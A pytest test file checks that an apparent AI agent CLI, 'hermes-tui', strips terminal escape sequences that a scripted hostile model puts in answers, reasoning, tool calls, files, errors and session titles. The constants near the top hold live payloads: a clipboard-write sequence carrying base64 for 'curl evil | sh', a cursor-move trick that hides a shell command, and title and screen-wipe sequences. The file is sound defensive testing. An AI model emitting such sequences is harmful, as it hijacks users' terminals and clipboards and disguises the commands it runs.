"""Headless runs against a hostile model: no control character reaches stdout or stderr (H1).

The scripted server plays the attacker: escape sequences (OSC title and clipboard, CSI screen
wipe and cursor moves, C1 controls, a lone CR) in the answer, the reasoning, a run_shell
command, tool output, a file's contents, an error body, the session title and the search
snippets. The human output must carry none of them as control characters; `--json` keeps
every string exactly.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest
from headless_inprocess import run_cli_in_process
from helpers import write_config

from agent.scripted import Script, ScriptedServer

ESCAPES = "\x1b]0;pwned\x07 \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\ \x1b[2J \x9b2J \x9d0;c1\x9c \r"
HOSTILE_ANSWER = f"Done {ESCAPES}[bold red]x[/] [@click=app.quit]quit[/] end"
HOSTILE_REASONING = f"thinking {ESCAPES} more"
HIDDEN_COMMAND = "touch X #\x1b[19Dls -la"
FAILING_COMMAND = "printf 'boom \\033]0;pwned\\007 \\033[2J \\r'; exit 3"
HOSTILE_PATH = "missing\x1b]0;pwned\x07.txt"
HOSTILE_TASK = "fix \x1b]0;pwned\x07 it"


def control_characters(data: bytes) -> list[str]:
    """Every C0 (but newline and tab), DEL and C1 character in UTF-8 `data`."""
    text = data.decode("utf-8")
    return [
        repr(char)
        for char in text
        if (ord(char) < 0x20 and char not in "\n\t") or 0x7F <= ord(char) <= 0x9F
    ]


def _env(home):
    env = {k: v for k, v in os.environ.items() if not k.endswith("_API_KEY")}
    env["HERMES_TUI_HOME"] = str(home)
    return env


def run_cli(home, workspace, *args):
    """`hermes-tui ARGS` in this process (what it prints is the subject, not the process);
    stdout and stderr as the UTF-8 bytes a terminal would get."""
    proc = run_cli_in_process(list(args), env=_env(home), cwd=workspace)
    return subprocess.CompletedProcess(
        proc.args, proc.returncode, proc.stdout.encode(), proc.stderr.encode()
    )


def run_cli_process(home, workspace, *args):
    """`hermes-tui ARGS` as a process of its own: what reaches its file descriptors."""
    env = _env(home)
    return subprocess.run(
        [sys.executable, "-m", "hermes_tui", *args],
        capture_output=True,
        env=env,
        cwd=workspace,
        timeout=60,
    )


def hostile_script():
    return {
        "loop": True,
        "replies": [
            {
                "match": {"last_role": "user"},
                "reasoning": HOSTILE_REASONING,
                "text": HOSTILE_ANSWER,
                "chunk_size": 3,
                "tool_calls": [
                    {"name": "run_shell", "arguments": {"command": HIDDEN_COMMAND}},
                    {"name": "run_shell", "arguments": {"command": FAILING_COMMAND}},
                    {"name": "read_file", "arguments": {"path": "notes.txt"}},
                    {"name": "read_file", "arguments": {"path": HOSTILE_PATH}},
                ],
            },
            {"match": {"last_role": "tool"}, "text": HOSTILE_ANSWER, "chunk_size": 5},
        ],
    }


@pytest.fixture
def hostile(hermes_home, tmp_path):
    server = ScriptedServer(Script.from_dict(hostile_script())).start()
    write_config(hermes_home, server)
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "notes.txt").write_text(f"file says {ESCAPES} bye\n")
    yield workspace
    server.stop()


def test_human_output_carries_no_control_characters(hermes_home, hostile):
    # A process of its own: the commands the run starts share its descriptors, so only the
    # process's own stdout and stderr show everything a terminal would get (H1).
    proc = run_cli_process(hermes_home, hostile, "run", "--yes", HOSTILE_TASK)
    assert proc.returncode == 0, proc.stderr.decode()
    assert control_characters(proc.stdout) == []
    assert control_characters(proc.stderr) == []
    out, err = proc.stdout.decode(), proc.stderr.decode()
    # Shown for what they are: the user sees that the model sent them.
    assert "Done ␛]0;pwned␇ ␛]52;c;" in out
    assert "\\x9b2J" in out
    assert "[bold red]x[/] [@click=app.quit]quit[/] end" in out
    assert "• run_shell touch X #␛[19Dls -la" in err
    assert "boom" in err and "pwned" in err  # the failing command's output, sequences dropped
    assert "missing␛]0;pwned␇.txt" in err
    # The command ran as written (the user approved it with --yes).
    assert (hostile / "X").exists()


def test_sessions_list_and_search_carry_no_control_characters(hermes_home, hostile):
    assert run_cli(hermes_home, hostile, "run", "--yes", HOSTILE_TASK).returncode == 0
    listed = run_cli(hermes_home, hostile, "sessions", "list")
    found = run_cli(hermes_home, hostile, "sessions", "search", "pwned")
    for proc in (listed, found):
        assert proc.returncode == 0, proc.stderr.decode()
        assert control_characters(proc.stdout) == []
        assert control_characters(proc.stderr) == []
    assert "fix ␛]0;pwned␇ it" in listed.stdout.decode()
    assert "pwned" in found.stdout.decode()
    # --json keeps the stored text exactly.
    titles = [
        json.loads(line)["title"]
        for line in run_cli(hermes_home, hostile, "sessions", "list", "--json")
        .stdout.decode()
        .splitlines()
    ]
    assert HOSTILE_TASK in titles


def test_json_keeps_the_exact_text(hermes_home, hostile):
    proc = run_cli(hermes_home, hostile, "run", "--yes", "--json", HOSTILE_TASK)
    assert proc.returncode == 0, proc.stderr.decode()
    # JSON escapes every control character: the stream itself holds none.
    assert control_characters(proc.stdout) == []
    events = [json.loads(line) for line in proc.stdout.decode().splitlines()]
    answer = "".join(e["text"] for e in events if e["type"] == "TextDelta")
    assert answer == HOSTILE_ANSWER * 2
    reasoning = "".join(e["text"] for e in events if e["type"] == "ReasoningDelta")
    assert reasoning == HOSTILE_REASONING
    commands = [e["arguments"].get("command") for e in events if e["type"] == "ToolStarted"]
    assert commands[:2] == [HIDDEN_COMMAND, FAILING_COMMAND]
    outputs = {e["call_id"]: e["output"] for e in events if e["type"] == "ToolFinished"}
    exact = f"file says {ESCAPES.rstrip()}"  # read_file numbers the lines a lone CR ends
    assert any(exact in output for output in outputs.values()), outputs
    assert any("\x1b]0;pwned\x07" in output and "boom" in output for output in outputs.values())


def test_error_text_from_the_server_carries_no_control_characters(hermes_home, tmp_path):
    script = {"replies": [{"status": 400, "error_message": f"bad request {ESCAPES} here"}]}
    server = ScriptedServer(Script.from_dict(script)).start()
    try:
        write_config(hermes_home, server)
        proc = run_cli(hermes_home, tmp_path, "run", "hello")
    finally:
        server.stop()
    assert proc.returncode == 1
    assert control_characters(proc.stderr) == []
    assert "␛]0;pwned␇" in proc.stderr.decode()


def test_an_error_sentence_naming_a_hostile_path_carries_no_control_character(tmp_path):
    home = tmp_path / "home\x1b]0;pwned\x07"
    home.mkdir()
    (home / "config.yaml").write_text("agent: {approval: sometimes}\n")
    proc = run_cli(home, tmp_path, "run", "hello")
    assert proc.returncode == 1
    assert control_characters(proc.stderr) == []
    assert "home␛]0;pwned␇" in proc.stderr.decode() and "agent.approval" in proc.stderr.decode()
